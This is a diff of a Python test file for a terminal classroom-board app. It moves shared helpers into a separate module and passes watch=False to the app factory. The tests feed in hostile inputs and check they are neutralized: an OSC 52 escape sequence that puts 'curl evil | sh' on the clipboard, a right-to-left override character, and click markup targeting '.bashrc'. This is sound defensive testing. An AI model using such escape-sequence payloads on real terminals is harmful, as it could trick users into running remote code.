@@ -9,27 +9,20 @@ from __future__ import annotations
 
 import json
 
-from conftest import run_cli
 from rich.text import Text
 from textual.widgets import Markdown, OptionList
 from textual.widgets._markdown import MarkdownBlock
 
-from paratui.app.board_app import BoardApp
 from paratui.app.page import PageScreen, markdown_literal, warnings_markdown
 from paratui.app.panes import StudentsPane, TasksPane
 from paratui.app.picker import PickerScreen
 from paratui.model.text import clean
-from paratui.store import paths
 from paratui.store.room import Room
 from paratui.store.themes import load_themes
+from tests.helpers import make_app, run_cli, settle
 
 OSC52 = "x \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07 y"  # "curl evil | sh" to the clipboard
 RLO = "\u202e"
-
-
-def make_app(room_dir, **kwargs) -> BoardApp:
-    kwargs.setdefault("theme_folders", [paths.builtin_themes(), room_dir / "themes"])
-    return BoardApp(Room(room_dir), watch=False, **kwargs)
 
 
 def add_task(room_dir, text: str, by: str = "AL") -> None:
@@ -41,14 +34,6 @@ def edit_classroom(room_dir, old: str, new: str) -> None:
     source = path.read_text(encoding="utf-8")
     assert old in source
     path.write_text(source.replace(old, new, 1), encoding="utf-8")
-
-
-async def settle(pilot) -> None:
-    """Let a key's work finish (a write runs on a thread, then the board re-reads). Not while a
-    picker is open: the key's worker waits for it."""
-    for _ in range(3):
-        await pilot.app.workers.wait_for_complete()
-        await pilot.pause()
 
 
 async def opened(pilot) -> None:
@@ -90,7 +75,7 @@ async def click_on(pilot, words: str) -> None:
 async def test_a_click_on_a_task_written_as_click_markup_runs_no_action(room_dir, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)  # where app.screenshot('.bashrc', '.') would write
     add_task(room_dir, "[@click=app.screenshot('.bashrc','.')]Copies[/]")
-    app = make_app(room_dir, as_staff="MR")
+    app = make_app(room_dir, watch=False, as_staff="MR")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.press("d")
         await opened(pilot)
@@ -107,7 +92,7 @@ async def test_a_click_on_a_task_written_as_click_markup_runs_no_action(room_dir
 
 async def test_a_click_on_a_task_written_as_quit_markup_leaves_the_board_running(room_dir):
     add_task(room_dir, "[@click=app.quit]Copies[/]")
-    app = make_app(room_dir, as_staff="MR")
+    app = make_app(room_dir, watch=False, as_staff="MR")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.press("d")
         await opened(pilot)
@@ -123,7 +108,7 @@ async def test_a_click_on_a_task_written_as_quit_markup_leaves_the_board_running
 
 async def test_an_unbalanced_close_tag_in_a_task_shows_literally(room_dir):
     add_task(room_dir, "close [/] tag")
-    app = make_app(room_dir, as_staff="MR")
+    app = make_app(room_dir, watch=False, as_staff="MR")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.pause()
         assert "close [/] tag" in str(app.query_one(TasksPane).content)
@@ -139,7 +124,7 @@ async def test_an_unbalanced_close_tag_in_a_task_shows_literally(room_dir):
 async def test_location_labels_with_brackets_show_literally_in_the_picker(room_dir):
     edit_classroom(room_dir, 'label = "Bathroom"', 'label = "Bathroom [/]"')
     edit_classroom(room_dir, 'label = "Nurse"', 'label = "Nurse [boys]"')
-    app = make_app(room_dir, as_staff="JT")
+    app = make_app(room_dir, watch=False, as_staff="JT")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.press("m", "1")
         await opened(pilot)
@@ -156,7 +141,7 @@ async def test_location_labels_with_brackets_show_literally_in_the_picker(room_d
 
 async def test_an_osc52_task_never_reaches_the_terminal(room_dir):
     add_task(room_dir, OSC52)
-    app = make_app(room_dir, as_staff="MR")
+    app = make_app(room_dir, watch=False, as_staff="MR")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.pause()
         pane = app.query_one(TasksPane)
@@ -172,7 +157,7 @@ async def test_an_osc52_task_never_reaches_the_terminal(room_dir):
 
 async def test_a_right_to_left_override_in_initials_is_dropped(room_dir):
     edit_classroom(room_dir, 'initials = "E.M."', f'initials = "E.{RLO}M."')
-    app = make_app(room_dir, as_staff="MR")
+    app = make_app(room_dir, watch=False, as_staff="MR")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.pause()
         students = str(app.query_one(StudentsPane).content)
@@ -186,7 +171,7 @@ async def test_binder_pages_show_no_control_characters_and_links_open_nothing(ro
     page = room_dir / "binder" / "monday.md"
     page.write_text(page.read_text(encoding="utf-8") + f"\n\nNote {OSC52}\n\n[quit](app.quit)\n",
                     encoding="utf-8")
-    app = make_app(room_dir, as_staff="MR")
+    app = make_app(room_dir, watch=False, as_staff="MR")
     urls = []
     monkeypatch.setattr(app, "open_url", lambda url, **kw: urls.append(url))
     async with app.run_test(size=(120, 40)) as pilot:
@@ -230,7 +215,7 @@ async def test_a_theme_with_markup_and_control_characters_is_reported_by_file_an
     assert any(p.startswith("themes/worse.toml: field 'variables.") for p in problems)
     assert any(p.startswith("themes/sneaky.toml: field 'primary'") for p in problems)
     assert not any(c in p for p in problems for c in "\x1b\x07\n")
-    app = make_app(room_dir, as_staff="MR", theme_name="evil")
+    app = make_app(room_dir, watch=False, as_staff="MR", theme_name="evil")
     async with app.run_test(size=(120, 40)) as pilot:
         await pilot.pause()
         assert app.theme == "paratui-dark"
